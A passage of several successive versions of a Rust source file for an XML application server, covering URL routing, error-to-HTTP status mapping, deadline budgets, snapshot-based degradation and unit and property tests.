    /// * `/query?xq=Q` — ad-hoc server-side XQuery (legacy fine-grained API).
    pub fn handle(&mut self, url: &str) -> ServerResponse {
        self.metrics.requests += 1;
        let (path, query) = split_url(url);
        let resp = match path.as_str() {
            "/page" => match param(&query, "article") {
                Some(id) => self.render_query(&render::article_page_query(&id)),
                None => not_found("missing article parameter"),
            },
            "/index" => self.render_query(&render::index_page_query()),
            "/doc" => match param(&query, "uri") {
                Some(uri) => match self.db.serialize(&uri) {
                    Some(body) => ServerResponse { status: 200, body },
                    None => not_found(&format!("no document {uri}")),
                },
                None => not_found("missing uri parameter"),
            },
            "/query" => match param(&query, "xq") {
                Some(xq) => self.render_query(&xq),
                None => not_found("missing xq parameter"),
            },
            other => not_found(&format!("no route {other}")),
        };
        self.metrics.bytes_out += resp.body.len() as u64;
        self.metrics
            .record_engine_stats(self.engine_baseline, engine_stats::snapshot());
        resp
    }

    fn render_query(&mut self, xq: &str) -> ServerResponse {
        match self.db.query(xq) {
            Ok(body) => {
                self.metrics.xquery_evals = self.db.evals;
                ServerResponse { status: 200, body }
            }
            Err(e) => ServerResponse {
                status: 500,
                body: format!("<error>{e}</error>"),
            },
        }
    }
}

fn split_url(url: &str) -> (String, String) {
    // strip scheme://host if present
    let rest = match url.split_once("://") {
        Some((_, r)) => match r.find('/') {
            Some(i) => &r[i..],
            None => "/",
        },
        None => url,
    };
    match rest.split_once('?') {
        Some((p, q)) => (p.to_string(), q.to_string()),
        None => (rest.to_string(), String::new()),
    }
}

fn param(query: &str, name: &str) -> Option<String> {
    for pair in query.split('&') {
        if let Some((k, v)) = pair.split_once('=') {
            if k == name {
                return Some(v.replace('+', " ").replace("%20", " "));
            }
        }
    }
    None
}

fn not_found(msg: &str) -> ServerResponse {
    ServerResponse {
        status: 404,
        body: format!("<error>{msg}</error>"),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::corpus::{generate_corpus, CorpusSpec};

    fn server() -> AppServer {
        AppServer::new(&generate_corpus(&CorpusSpec::default())).unwrap()
    }

    #[test]
    fn page_route_renders_article() {
        let mut s = server();
        let r = s.handle("http://ref2.example/page?article=j0-v0-i0-a0");
        assert_eq!(r.status, 200);
        assert!(r.body.contains("<table id=\"refs\">"));
        assert_eq!(s.metrics.requests, 1);
        assert_eq!(s.metrics.xquery_evals, 1);
        assert!(s.metrics.bytes_out > 0);
        // Rendering the page evaluates paths over the corpus, which needs
        // the order index at least once (the counters are process-global,
        // so only a lower bound is assertable).
        assert!(s.metrics.order_index_rebuilds >= 1);
        assert!(s.metrics.sorts_performed + s.metrics.sorts_elided >= 1);
    }

    #[test]
    fn doc_route_serves_whole_documents_without_evals() {
        let mut s = server();
        let r = s.handle("/doc?uri=corpus.xml");
        assert_eq!(r.status, 200);
        assert!(r.body.starts_with("<library>"));
        assert_eq!(s.metrics.xquery_evals, 0, "no server-side XQuery");
    }

    #[test]
    fn unknown_routes_404() {
        let mut s = server();
        assert_eq!(s.handle("/nope").status, 404);
        assert_eq!(s.handle("/page").status, 404);
        assert_eq!(s.handle("/doc?uri=missing.xml").status, 404);
        assert_eq!(s.metrics.requests, 3);
    }

    #[test]
    fn query_route() {
        let mut s = server();
        let r = s.handle("/query?xq=count(doc('corpus.xml')//article)");
        assert_eq!(r.status, 200);
        assert_eq!(r.body, "48");
        let r = s.handle("/query?xq=1+div+0");
        assert_eq!(r.status, 500);
    }

    #[test]
    fn index_route() {
        let mut s = server();
        let r = s.handle("/index");
        assert!(r.body.contains("<ul id=\"journals\">"));
    }
}
