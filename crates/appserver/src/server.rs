//! The application server: HTTP-ish routing over the XML database, with
//! the per-deployment metrics of the Figure 2 experiment.

use xqib_browser::net::percent_decode;
use xqib_dom::order::stats as engine_stats;
use xqib_dom::order::stats::EngineStats;
use xqib_storage::VirtualDisk;
use xqib_xdm::XdmResult;

use crate::metrics::ServerMetrics;
use crate::render;
use crate::xmldb::{DurabilityConfig, XmlDb};

/// An application-server response.
#[derive(Debug, Clone)]
pub struct ServerResponse {
    pub status: u16,
    pub body: String,
}

/// The Reference 2.0 application server.
pub struct AppServer {
    pub db: XmlDb,
    pub metrics: ServerMetrics,
    /// Process-global engine counters at construction time; `metrics`
    /// reports the delta from here.
    engine_baseline: EngineStats,
}

impl AppServer {
    /// Builds a server over a corpus document.
    pub fn new(corpus_xml: &str) -> XdmResult<Self> {
        Self::with_db(XmlDb::new(), corpus_xml)
    }

    /// Builds a durable server: the corpus load and every applied update
    /// are journaled to `disk` (see [`XmlDb::durable`]).
    pub fn new_durable(
        corpus_xml: &str,
        disk: VirtualDisk,
        cfg: DurabilityConfig,
    ) -> XdmResult<Self> {
        Self::with_db(XmlDb::durable(disk, cfg), corpus_xml)
    }

    /// Rebuilds a durable server from a crashed disk image (checkpoint +
    /// committed WAL suffix; see [`XmlDb::recover`]).
    pub fn recover(disk: VirtualDisk, cfg: DurabilityConfig) -> XdmResult<Self> {
        let db = XmlDb::recover(disk, cfg)?;
        let mut metrics = ServerMetrics::default();
        metrics.record_durability(&db.durability_stats());
        Ok(AppServer {
            db,
            metrics,
            engine_baseline: engine_stats::snapshot(),
        })
    }

    fn with_db(mut db: XmlDb, corpus_xml: &str) -> XdmResult<Self> {
        db.load(render::CORPUS_URI, corpus_xml)?;
        Ok(AppServer {
            db,
            metrics: ServerMetrics::default(),
            engine_baseline: engine_stats::snapshot(),
        })
    }

    /// Handles one request URL (path + query). Routes:
    ///
    /// * `/page?article=ID` — server-rendered article page (the "before"
    ///   deployment: one XQuery evaluation per interaction);
    /// * `/index` — server-rendered journal index;
    /// * `/doc?uri=U` — a whole stored document (the migrated deployment's
    ///   cache-friendly REST API: "serve whole documents rather than
    ///   individual queries to documents", §6.1);
    /// * `/query?xq=Q` — ad-hoc server-side XQuery (legacy fine-grained API);
    /// * `/update?xq=Q` — updating XQuery (journaled in durable mode).
    pub fn handle(&mut self, url: &str) -> ServerResponse {
        self.metrics.requests += 1;
        let (path, query) = split_url(url);
        let resp = match path.as_str() {
            "/page" => match param(&query, "article") {
                Some(id) => self.render_query(&render::article_page_query(&id)),
                None => not_found("missing article parameter"),
            },
            "/index" => self.render_query(&render::index_page_query()),
            "/doc" => match param(&query, "uri") {
                Some(uri) => match self.db.serialize(&uri) {
                    Some(body) => ServerResponse { status: 200, body },
                    None => not_found(&format!("no document {uri}")),
                },
                None => not_found("missing uri parameter"),
            },
            "/query" | "/update" => match param(&query, "xq") {
                Some(xq) => self.render_query(&xq),
                None => not_found("missing xq parameter"),
            },
            other => not_found(&format!("no route {other}")),
        };
        self.metrics.bytes_out += resp.body.len() as u64;
        self.metrics
            .record_engine_stats(self.engine_baseline, engine_stats::snapshot());
        self.metrics.record_durability(&self.db.durability_stats());
        resp
    }

    fn render_query(&mut self, xq: &str) -> ServerResponse {
        match self.db.query(xq) {
            Ok(body) => {
                self.metrics.xquery_evals = self.db.evals;
                ServerResponse { status: 200, body }
            }
            Err(e) => ServerResponse {
                status: status_for(&e.code),
                body: format!("<error>{e}</error>"),
            },
        }
    }
}

/// Maps an engine error code to an HTTP status: a missing source document
/// is the client's 404, static (parse/type) errors are the client's 400,
/// anything dynamic is the server's 500.
fn status_for(code: &str) -> u16 {
    if code == "FODC0002" {
        404
    } else if code.starts_with("XPST") || code.starts_with("XQST") || code.starts_with("XQTY") {
        400
    } else {
        500
    }
}

fn split_url(url: &str) -> (String, String) {
    // strip scheme://host if present
    let rest = match url.split_once("://") {
        Some((_, r)) => match r.find('/') {
            Some(i) => &r[i..],
            None => "/",
        },
        None => url,
    };
    match rest.split_once('?') {
        Some((p, q)) => (p.to_string(), q.to_string()),
        None => (rest.to_string(), String::new()),
    }
}

/// The query parameter `name`, with the same semantics as
/// `xqib_browser::net::Request::query_param`: pairs without `=` are
/// skipped rather than aborting the scan, and values get real `%xx`
/// percent-decoding (one shared helper, not a second buggy copy).
fn param(query: &str, name: &str) -> Option<String> {
    for pair in query.split('&') {
        let Some((k, v)) = pair.split_once('=') else {
            continue;
        };
        if k == name {
            return Some(percent_decode(v));
        }
    }
    None
}

fn not_found(msg: &str) -> ServerResponse {
    ServerResponse {
        status: 404,
        body: format!("<error>{msg}</error>"),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::corpus::{generate_corpus, CorpusSpec};

    fn server() -> AppServer {
        AppServer::new(&generate_corpus(&CorpusSpec::default())).unwrap()
    }

    #[test]
    fn page_route_renders_article() {
        let mut s = server();
        let r = s.handle("http://ref2.example/page?article=j0-v0-i0-a0");
        assert_eq!(r.status, 200);
        assert!(r.body.contains("<table id=\"refs\">"));
        assert_eq!(s.metrics.requests, 1);
        assert_eq!(s.metrics.xquery_evals, 1);
        assert!(s.metrics.bytes_out > 0);
        // Rendering the page evaluates paths over the corpus, which needs
        // the order index at least once (the counters are process-global,
        // so only a lower bound is assertable).
        assert!(s.metrics.order_index_rebuilds >= 1);
        assert!(s.metrics.sorts_performed + s.metrics.sorts_elided >= 1);
    }

    #[test]
    fn doc_route_serves_whole_documents_without_evals() {
        let mut s = server();
        let r = s.handle("/doc?uri=corpus.xml");
        assert_eq!(r.status, 200);
        assert!(r.body.starts_with("<library>"));
        assert_eq!(s.metrics.xquery_evals, 0, "no server-side XQuery");
    }

    #[test]
    fn unknown_routes_404() {
        let mut s = server();
        assert_eq!(s.handle("/nope").status, 404);
        assert_eq!(s.handle("/page").status, 404);
        assert_eq!(s.handle("/doc?uri=missing.xml").status, 404);
        assert_eq!(s.metrics.requests, 3);
    }

    #[test]
    fn query_route() {
        let mut s = server();
        let r = s.handle("/query?xq=count(doc('corpus.xml')//article)");
        assert_eq!(r.status, 200);
        assert_eq!(r.body, "48");
        let r = s.handle("/query?xq=1+div+0");
        assert_eq!(r.status, 500, "dynamic error stays a server error");
    }

    #[test]
    fn error_codes_map_to_http_statuses() {
        let mut s = server();
        // missing source document → client 404
        let r = s.handle("/query?xq=doc('nope.xml')");
        assert_eq!(r.status, 404);
        assert!(r.body.contains("FODC0002"));
        // parse error → client 400
        let r = s.handle("/query?xq=1+%2B");
        assert_eq!(r.status, 400);
        // unknown function → static error → client 400
        let r = s.handle("/query?xq=no:such-function()");
        assert_eq!(r.status, 400);
    }

    #[test]
    fn params_are_percent_decoded_and_flags_are_skipped() {
        let mut s = server();
        // %28/%29 parens and a valueless flag before the real parameter
        let r = s.handle("/query?flag&xq=count%28doc%28%27corpus.xml%27%29%2F%2Farticle%29");
        assert_eq!(r.status, 200);
        assert_eq!(r.body, "48");
    }

    #[test]
    fn update_route_mutates_and_journals() {
        let disk = xqib_storage::VirtualDisk::new();
        let corpus = generate_corpus(&CorpusSpec::default());
        let mut s =
            AppServer::new_durable(&corpus, disk.clone(), DurabilityConfig::default()).unwrap();
        let r = s.handle(
            "/update?xq=insert+node+%3Cnote%3Ehi%3C%2Fnote%3E+into+doc(%27corpus.xml%27)%2F*",
        );
        assert_eq!(r.status, 200);
        assert!(s.metrics.wal_appends >= 2, "corpus load + update journaled");
        let r = s.handle("/query?xq=count(doc('corpus.xml')//note)");
        assert_eq!(r.body, "1");
        // the journaled update survives a crash + recovery
        disk.crash();
        let mut s2 = AppServer::recover(disk, DurabilityConfig::default()).unwrap();
        assert_eq!(s2.metrics.recoveries, 1);
        let r = s2.handle("/query?xq=count(doc('corpus.xml')//note)");
        assert_eq!(r.body, "1");
    }

    #[test]
    fn index_route() {
        let mut s = server();
        let r = s.handle("/index");
        assert!(r.body.contains("<ul id=\"journals\">"));
    }
}
