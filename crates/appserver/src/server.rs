//! The application server: HTTP-ish routing over the XML database, with
//! the per-deployment metrics of the Figure 2 experiment.
//!
//! Requests can carry a *deadline budget* (engine fuel units, see
//! [`AppServer::handle_budgeted`]): the evaluator is preempted with
//! `XQIB0014` once the budget is spent, which the HTTP layer maps to 504.
//! The server also keeps whole-document snapshots of every bound document
//! (refreshed after successful updates) so the request governor can degrade
//! render-class requests to a cached snapshot instead of failing them —
//! the paper's own "serve whole documents rather than individual queries
//! to documents" caching argument (§6.1).

use std::collections::HashMap;

use xqib_browser::net::percent_decode;
use xqib_dom::order::stats as engine_stats;
use xqib_dom::order::stats::EngineStats;
use xqib_storage::VirtualDisk;
use xqib_xdm::XdmResult;

use crate::metrics::ServerMetrics;
use crate::render;
use crate::xmldb::{DurabilityConfig, XmlDb};

/// An application-server response.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ServerResponse {
    pub status: u16,
    pub body: String,
    /// Response headers (`Retry-After`, `X-XQIB-Degraded`, …).
    pub headers: Vec<(String, String)>,
}

impl ServerResponse {
    pub fn new(status: u16, body: impl Into<String>) -> Self {
        ServerResponse {
            status,
            body: body.into(),
            headers: Vec::new(),
        }
    }

    pub fn with_header(mut self, name: &str, value: &str) -> Self {
        self.headers.push((name.to_string(), value.to_string()));
        self
    }

    /// The first header with this name (case-insensitive), if any.
    pub fn header(&self, name: &str) -> Option<&str> {
        self.headers
            .iter()
            .find(|(n, _)| n.eq_ignore_ascii_case(name))
            .map(|(_, v)| v.as_str())
    }

    /// The 421 ownership/fencing refusal a shard returns for a document it
    /// does not serve (misroute, or migrated away under a newer topology
    /// epoch). Carries the current owner and epoch so clients re-resolve
    /// instead of retrying the same shard.
    pub fn misrouted(shard: usize, uri: &str, owner: usize, epoch: u64) -> Self {
        ServerResponse::new(
            421,
            format!(
                "<error code=\"XQIB0015\">shard {shard} does not serve {uri}; \
                 owner is shard {owner} at epoch {epoch}</error>"
            ),
        )
        .with_header("X-XQIB-Owner", &owner.to_string())
        .with_header("X-XQIB-Epoch", &epoch.to_string())
    }
}

/// The Reference 2.0 application server.
pub struct AppServer {
    pub db: XmlDb,
    pub metrics: ServerMetrics,
    /// Process-global engine counters at construction time; `metrics`
    /// reports the delta from here.
    engine_baseline: EngineStats,
    /// Whole-document snapshots by URI: the degradation cache. Refreshed at
    /// construction and after every successful `/update`, so a degraded
    /// response is always a well-formed document the server once served —
    /// possibly stale, never torn.
    snapshots: HashMap<String, String>,
}

impl AppServer {
    /// Builds a server over a corpus document.
    pub fn new(corpus_xml: &str) -> XdmResult<Self> {
        Self::with_db(XmlDb::new(), corpus_xml)
    }

    /// Builds a durable server: the corpus load and every applied update
    /// are journaled to `disk` (see [`XmlDb::durable`]).
    pub fn new_durable(
        corpus_xml: &str,
        disk: VirtualDisk,
        cfg: DurabilityConfig,
    ) -> XdmResult<Self> {
        Self::with_db(XmlDb::durable(disk, cfg), corpus_xml)
    }

    /// Rebuilds a durable server from a crashed disk image (checkpoint +
    /// committed WAL suffix; see [`XmlDb::recover`]).
    pub fn recover(disk: VirtualDisk, cfg: DurabilityConfig) -> XdmResult<Self> {
        Ok(Self::from_db(XmlDb::recover(disk, cfg)?))
    }

    fn with_db(mut db: XmlDb, corpus_xml: &str) -> XdmResult<Self> {
        db.load(render::CORPUS_URI, corpus_xml)?;
        Ok(Self::from_db(db))
    }

    /// Wraps an already-populated database — no corpus load. Cluster
    /// shards use this: only the shard owning `corpus.xml` holds the
    /// corpus; the rest serve whatever documents route to them.
    pub fn from_db(db: XmlDb) -> Self {
        let mut metrics = ServerMetrics::default();
        metrics.record_durability(&db.durability_stats());
        let mut server = AppServer {
            db,
            metrics,
            engine_baseline: engine_stats::snapshot(),
            snapshots: HashMap::new(),
        };
        server.refresh_snapshots();
        server
    }

    /// Re-serialises every bound document into the degradation cache.
    pub fn refresh_snapshots(&mut self) {
        self.snapshots = self.db.dump().into_iter().collect();
    }

    /// The cached whole-document snapshot a degraded request falls back to:
    /// `/doc?uri=U` degrades to the snapshot of `U`, every other
    /// render-class route (`/page`, `/index`) to the corpus snapshot. The
    /// response carries an `X-XQIB-Degraded` marker so clients can tell a
    /// fallback from a fresh render.
    pub fn degraded_snapshot(&self, url: &str) -> Option<ServerResponse> {
        let (path, query) = split_url(url);
        let uri = match path.as_str() {
            "/doc" => param(&query, "uri")?,
            _ => render::CORPUS_URI.to_string(),
        };
        let body = self.snapshots.get(&uri)?.clone();
        Some(
            ServerResponse::new(200, body)
                .with_header("X-XQIB-Degraded", "whole-document-snapshot"),
        )
    }

    /// Handles one request URL (path + query). Routes:
    ///
    /// * `/page?article=ID` — server-rendered article page (the "before"
    ///   deployment: one XQuery evaluation per interaction);
    /// * `/index` — server-rendered journal index;
    /// * `/doc?uri=U` — a whole stored document (the migrated deployment's
    ///   cache-friendly REST API: "serve whole documents rather than
    ///   individual queries to documents", §6.1);
    /// * `/query?xq=Q` — ad-hoc server-side XQuery (legacy fine-grained API);
    /// * `/update?xq=Q` — updating XQuery (journaled in durable mode);
    /// * `/metrics` — the [`ServerMetrics`] counters as XML.
    pub fn handle(&mut self, url: &str) -> ServerResponse {
        self.handle_budgeted(url, None).0
    }

    /// Like [`Self::handle`], but with an optional deadline budget in
    /// engine fuel units. Returns the response and the fuel the evaluation
    /// consumed (0 for routes that evaluate nothing), which the request
    /// governor converts back into virtual service time.
    pub fn handle_budgeted(&mut self, url: &str, budget: Option<u64>) -> (ServerResponse, u64) {
        self.metrics.requests += 1;
        let (path, query) = split_url(url);
        let (resp, fuel_used) = match path.as_str() {
            "/page" => match param(&query, "article") {
                Some(id) => self.render_query(&render::article_page_query(&id), budget),
                None => (bad_request("missing article parameter"), 0),
            },
            "/index" => self.render_query(&render::index_page_query(), budget),
            "/doc" => match param(&query, "uri") {
                // the read path recomputes the document's content digest
                // against the one sealed at journal time: bytes that no
                // longer hash to what was acknowledged are never served
                Some(uri) => {
                    let recorded = self.db.digest_of(&uri).is_some();
                    match self.db.verified_serialize(&uri) {
                        Ok(Some(body)) => {
                            if recorded {
                                self.metrics.doc_reads_verified += 1;
                            }
                            (ServerResponse::new(200, body), 0)
                        }
                        Ok(None) => (not_found(&format!("no document {uri}")), 0),
                        Err(e) => {
                            self.metrics.doc_reads_refused += 1;
                            (
                                ServerResponse::new(
                                    500,
                                    format!("<error code=\"XQIB0019\">{e}</error>"),
                                ),
                                0,
                            )
                        }
                    }
                }
                None => (bad_request("missing uri parameter"), 0),
            },
            "/query" | "/update" => match param(&query, "xq") {
                Some(xq) => {
                    let r = self.render_query(&xq, budget);
                    if path == "/update" && r.0.status == 200 {
                        // keep the degradation cache fresh: a later degraded
                        // response reflects the last successful update
                        self.refresh_snapshots();
                    }
                    r
                }
                None => (bad_request("missing xq parameter"), 0),
            },
            "/metrics" => (ServerResponse::new(200, self.metrics.to_xml()), 0),
            other => (not_found(&format!("no route {other}")), 0),
        };
        self.metrics.bytes_out += resp.body.len() as u64;
        self.metrics
            .record_engine_stats(self.engine_baseline, engine_stats::snapshot());
        self.metrics.record_durability(&self.db.durability_stats());
        (resp, fuel_used)
    }

    fn render_query(&mut self, xq: &str, budget: Option<u64>) -> (ServerResponse, u64) {
        let (result, fuel_used) = self.db.query_with_deadline(xq, budget);
        self.metrics.xquery_evals = self.db.evals;
        self.metrics.record_plan_cache(&self.db.plan_stats());
        let resp = match result {
            Ok(body) => ServerResponse::new(200, body),
            Err(e) => ServerResponse::new(status_for(&e.code), format!("<error>{e}</error>")),
        };
        (resp, fuel_used)
    }
}

/// Maps an engine error code to an HTTP status: a missing source document
/// is the client's 404, static (parse/type) errors are the client's 400, a
/// blown request deadline is a 504, anything dynamic is the server's 500.
fn status_for(code: &str) -> u16 {
    if code == "FODC0002" {
        404
    } else if code.starts_with("XPST") || code.starts_with("XQST") || code.starts_with("XQTY") {
        400
    } else if code == "XQIB0014" {
        504
    } else {
        500
    }
}

/// Splits a request URL into `(path, query)`. The scheme/host prefix and
/// any `#fragment` suffix are stripped; a URL with no path at all
/// (`http://host?x=1`) keeps its query and gets the root path.
pub(crate) fn split_url(url: &str) -> (String, String) {
    // strip #fragment first: fragments are client-side only
    let url = url.split_once('#').map_or(url, |(u, _)| u);
    // strip scheme://host if present; the path starts at the first '/',
    // or at '?' for empty-path URLs
    let rest = match url.split_once("://") {
        Some((_, r)) => match (r.find('/'), r.find('?')) {
            (Some(slash), Some(q)) if q < slash => &r[q..],
            (Some(slash), _) => &r[slash..],
            (None, Some(q)) => &r[q..],
            (None, None) => "",
        },
        None => url,
    };
    match rest.split_once('?') {
        Some((p, q)) => (normalize_path(p), q.to_string()),
        None => (normalize_path(rest), String::new()),
    }
}

fn normalize_path(p: &str) -> String {
    if p.is_empty() {
        "/".to_string()
    } else {
        p.to_string()
    }
}

/// The query parameter `name`, with the same semantics as
/// `xqib_browser::net::Request::query_param`: pairs without `=` are
/// skipped rather than aborting the scan, and values get real `%xx`
/// percent-decoding (one shared helper, not a second buggy copy).
pub(crate) fn param(query: &str, name: &str) -> Option<String> {
    for pair in query.split('&') {
        let Some((k, v)) = pair.split_once('=') else {
            continue;
        };
        if k == name {
            return Some(percent_decode(v));
        }
    }
    None
}

fn not_found(msg: &str) -> ServerResponse {
    ServerResponse::new(404, format!("<error>{msg}</error>"))
}

/// A malformed request (missing/invalid parameters) is the client's fault:
/// 400 with a distinct error class, never the 404 of a missing resource.
fn bad_request(msg: &str) -> ServerResponse {
    ServerResponse::new(400, format!("<error class=\"bad-request\">{msg}</error>"))
}

#[cfg(test)]
#[allow(clippy::unwrap_used, clippy::expect_used)]
mod tests {
    use super::*;
    use crate::corpus::{generate_corpus, CorpusSpec};
    use proptest::prelude::*;

    fn server() -> AppServer {
        AppServer::new(&generate_corpus(&CorpusSpec::default())).unwrap()
    }

    #[test]
    fn page_route_renders_article() {
        let mut s = server();
        let r = s.handle("http://ref2.example/page?article=j0-v0-i0-a0");
        assert_eq!(r.status, 200);
        assert!(r.body.contains("<table id=\"refs\">"));
        assert_eq!(s.metrics.requests, 1);
        assert_eq!(s.metrics.xquery_evals, 1);
        assert!(s.metrics.bytes_out > 0);
        // Rendering the page evaluates paths over the corpus, which needs
        // the order index at least once (the counters are process-global,
        // so only a lower bound is assertable).
        assert!(s.metrics.order_index_rebuilds >= 1);
        assert!(s.metrics.sorts_performed + s.metrics.sorts_elided >= 1);
    }

    #[test]
    fn doc_route_serves_whole_documents_without_evals() {
        let mut s = server();
        let r = s.handle("/doc?uri=corpus.xml");
        assert_eq!(r.status, 200);
        assert!(r.body.starts_with("<library>"));
        assert_eq!(s.metrics.xquery_evals, 0, "no server-side XQuery");
    }

    #[test]
    fn statuses_split_client_errors_from_missing_resources() {
        let mut s = server();
        // 400: syntactically broken requests (missing required parameters)
        for url in ["/page", "/doc", "/query", "/update", "/doc?x=1"] {
            let r = s.handle(url);
            assert_eq!(r.status, 400, "{url} is a client error");
            assert!(
                r.body.contains("class=\"bad-request\""),
                "{url}: {}",
                r.body
            );
            assert!(r.body.contains("missing"), "{url}: {}", r.body);
        }
        // 404: well-formed requests for resources that do not exist
        for url in ["/nope", "/doc?uri=missing.xml"] {
            let r = s.handle(url);
            assert_eq!(r.status, 404, "{url} is a missing resource");
            assert!(!r.body.contains("bad-request"), "{url}: {}", r.body);
        }
        // 500: a well-formed request whose evaluation fails dynamically
        assert_eq!(s.handle("/query?xq=1+div+0").status, 500);
        assert_eq!(s.metrics.requests, 8);
    }

    #[test]
    fn query_route() {
        let mut s = server();
        let r = s.handle("/query?xq=count(doc('corpus.xml')//article)");
        assert_eq!(r.status, 200);
        assert_eq!(r.body, "48");
        let r = s.handle("/query?xq=1+div+0");
        assert_eq!(r.status, 500, "dynamic error stays a server error");
    }

    #[test]
    fn error_codes_map_to_http_statuses() {
        let mut s = server();
        // missing source document → client 404
        let r = s.handle("/query?xq=doc('nope.xml')");
        assert_eq!(r.status, 404);
        assert!(r.body.contains("FODC0002"));
        // parse error → client 400
        let r = s.handle("/query?xq=1+%2B");
        assert_eq!(r.status, 400);
        // unknown function → static error → client 400
        let r = s.handle("/query?xq=no:such-function()");
        assert_eq!(r.status, 400);
    }

    #[test]
    fn params_are_percent_decoded_and_flags_are_skipped() {
        let mut s = server();
        // %28/%29 parens and a valueless flag before the real parameter
        let r = s.handle("/query?flag&xq=count%28doc%28%27corpus.xml%27%29%2F%2Farticle%29");
        assert_eq!(r.status, 200);
        assert_eq!(r.body, "48");
    }

    #[test]
    fn update_route_mutates_and_journals() {
        let disk = xqib_storage::VirtualDisk::new();
        let corpus = generate_corpus(&CorpusSpec::default());
        let mut s =
            AppServer::new_durable(&corpus, disk.clone(), DurabilityConfig::default()).unwrap();
        let r = s.handle(
            "/update?xq=insert+node+%3Cnote%3Ehi%3C%2Fnote%3E+into+doc(%27corpus.xml%27)%2F*",
        );
        assert_eq!(r.status, 200);
        assert!(s.metrics.wal_appends >= 2, "corpus load + update journaled");
        let r = s.handle("/query?xq=count(doc('corpus.xml')//note)");
        assert_eq!(r.body, "1");
        // the journaled update survives a crash + recovery
        disk.crash();
        let mut s2 = AppServer::recover(disk, DurabilityConfig::default()).unwrap();
        assert_eq!(s2.metrics.recoveries, 1);
        let r = s2.handle("/query?xq=count(doc('corpus.xml')//note)");
        assert_eq!(r.body, "1");
    }

    #[test]
    fn index_route() {
        let mut s = server();
        let r = s.handle("/index");
        assert!(r.body.contains("<ul id=\"journals\">"));
    }

    #[test]
    fn metrics_route_serializes_every_counter() {
        let mut s = server();
        s.handle("/page?article=j0-v0-i0-a0");
        let r = s.handle("/metrics");
        assert_eq!(r.status, 200);
        assert!(r.body.starts_with("<metrics>"), "{}", r.body);
        assert!(r.body.ends_with("</metrics>"));
        // a handful of load-bearing fields, incl. the overload counters
        for field in [
            "<requests>2</requests>",
            "<xquery-evals>1</xquery-evals>",
            "<admitted>0</admitted>",
            "<shed>0</shed>",
            "<degraded>0</degraded>",
            "<deadline-exceeded>0</deadline-exceeded>",
            "<queue-delay-p50-ms>0</queue-delay-p50-ms>",
            "<queue-delay-p99-ms>0</queue-delay-p99-ms>",
            "<plan-cache-hits>0</plan-cache-hits>",
            "<plan-cache-misses>1</plan-cache-misses>",
        ] {
            assert!(r.body.contains(field), "missing {field} in {}", r.body);
        }
    }

    #[test]
    fn deadline_budget_preempts_with_504() {
        let mut s = server();
        let (r, fuel) = s.handle_budgeted("/page?article=j0-v0-i0-a0", Some(10));
        assert_eq!(r.status, 504, "{}", r.body);
        assert!(r.body.contains("XQIB0014"), "{}", r.body);
        assert!(fuel >= 10, "charged at least the budget");
        // an unbudgeted retry succeeds
        let (r, fuel) = s.handle_budgeted("/page?article=j0-v0-i0-a0", None);
        assert_eq!(r.status, 200);
        assert!(fuel > 10, "a real render costs far more than the budget");
    }

    #[test]
    fn deadline_killed_update_has_no_effects() {
        let mut s = server();
        let (r, _) = s.handle_budgeted(
            "/update?xq=insert+node+%3Cnote%3Ehi%3C%2Fnote%3E+into+doc(%27corpus.xml%27)%2F*",
            Some(3),
        );
        assert_eq!(r.status, 504, "{}", r.body);
        let r = s.handle("/query?xq=count(doc('corpus.xml')//note)");
        assert_eq!(r.body, "0", "the killed update applied nothing");
    }

    #[test]
    fn degraded_snapshot_serves_whole_documents() {
        let mut s = server();
        let snap = s.degraded_snapshot("/page?article=j0-v0-i0-a0").unwrap();
        assert_eq!(snap.status, 200);
        assert!(snap.body.starts_with("<library>"));
        assert_eq!(
            snap.header("X-XQIB-Degraded"),
            Some("whole-document-snapshot")
        );
        assert_eq!(
            s.degraded_snapshot("/doc?uri=corpus.xml").unwrap().body,
            snap.body
        );
        assert!(s.degraded_snapshot("/doc?uri=missing.xml").is_none());
        // the cache follows successful updates
        s.handle("/update?xq=insert+node+%3Cnote%3Ehi%3C%2Fnote%3E+into+doc(%27corpus.xml%27)%2F*");
        let snap = s.degraded_snapshot("/index").unwrap();
        assert!(snap.body.contains("<note>hi</note>"));
    }

    // ----- split_url / param edge cases -------------------------------------

    #[test]
    fn split_url_edge_cases() {
        assert_eq!(split_url("/page?a=1"), ("/page".into(), "a=1".into()));
        assert_eq!(
            split_url("http://h/page?a=1"),
            ("/page".into(), "a=1".into())
        );
        // fragments are stripped from path and query alike
        assert_eq!(split_url("/page#frag"), ("/page".into(), "".into()));
        assert_eq!(
            split_url("http://h/page?a=1#frag"),
            ("/page".into(), "a=1".into())
        );
        // empty-path URLs keep their query
        assert_eq!(split_url("http://h?x=1"), ("/".into(), "x=1".into()));
        assert_eq!(split_url("http://h"), ("/".into(), "".into()));
        assert_eq!(split_url("http://h#f"), ("/".into(), "".into()));
        // '?' before the first '/' still means empty path
        assert_eq!(
            split_url("http://h?x=/page"),
            ("/".into(), "x=/page".into())
        );
    }

    #[test]
    fn param_edge_cases() {
        assert_eq!(param("a=1&&b=2", "b").as_deref(), Some("2"));
        assert_eq!(param("a=1&b=2&", "b").as_deref(), Some("2"));
        assert_eq!(param("&a=1", "a").as_deref(), Some("1"));
        assert_eq!(param("flag&a=1", "flag"), None, "valueless pair skipped");
        // truncated %-escapes survive undecoded rather than panicking
        assert_eq!(param("a=%4", "a").as_deref(), Some("%4"));
        assert_eq!(param("a=%", "a").as_deref(), Some("%"));
        assert_eq!(param("a=%zz", "a").as_deref(), Some("%zz"));
    }

    proptest! {
        /// Round trip: a path/query pair assembled into each URL shape
        /// splits back into exactly the same pair, with or without a
        /// scheme/host prefix or a fragment suffix.
        #[test]
        fn split_url_round_trips(
            path_seg in "[a-z]{0,8}",
            query in "[a-z0-9=&%+]{0,16}",
            frag in "[a-z]{0,4}",
            host in "[a-z]{1,6}",
        ) {
            let path = format!("/{path_seg}");
            let assembled = [
                format!("{path}?{query}"),
                format!("http://{host}{path}?{query}"),
                format!("{path}?{query}#{frag}"),
                format!("http://{host}{path}?{query}#{frag}"),
            ];
            for url in &assembled {
                let (p, q) = split_url(url);
                prop_assert_eq!(&p, &path, "{}", url);
                prop_assert_eq!(&q, &query, "{}", url);
            }
        }

        /// `param` never panics and finds a present key through arbitrary
        /// junk separators (`&&`, trailing `&`, truncated escapes).
        #[test]
        fn param_is_total_and_finds_planted_keys(
            junk in "[a-z0-9=&%+]{0,24}",
            value in "[a-z0-9+%]{0,8}",
